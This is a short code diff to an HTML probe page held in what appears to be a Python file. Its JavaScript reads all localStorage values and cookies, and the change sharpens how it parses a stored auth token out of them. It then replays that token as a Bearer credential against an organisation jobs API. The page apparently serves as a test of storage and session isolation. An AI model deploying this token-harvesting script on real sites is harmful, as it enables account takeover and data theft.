@@ -147,7 +147,8 @@ PAGE = b"""<!doctype html><html><head><title>loading</title></head><body><h1>a p
 var r = {origin: String(self.origin)};
 try { var all = []; for (var i = 0; i < localStorage.length; i++) all.push(localStorage.getItem(localStorage.key(i))); r.storage = all.join("|"); } catch (e) { r.storage = "blocked:" + e.name; }
 try { r.cookie = String(document.cookie); } catch (e) { r.cookie = "blocked:" + e.name; }
-var found = (r.storage || "").indexOf("token") >= 0 ? r.storage : "none";
+var found = "none";
+(r.storage || "").split("|").forEach(function (v) { try { found = JSON.parse(v).token || found; } catch (e) {} });
 fetch("/api/v2/orgs/ORG/jobs", {credentials: "include", headers: {"Authorization": "Bearer " + found}})
   .then(function (x) { return x.text().then(function (t) { return "status " + x.status + " " + t.slice(0, 200); }); })
   .catch(function (e) { return "blocked:" + e.name; })
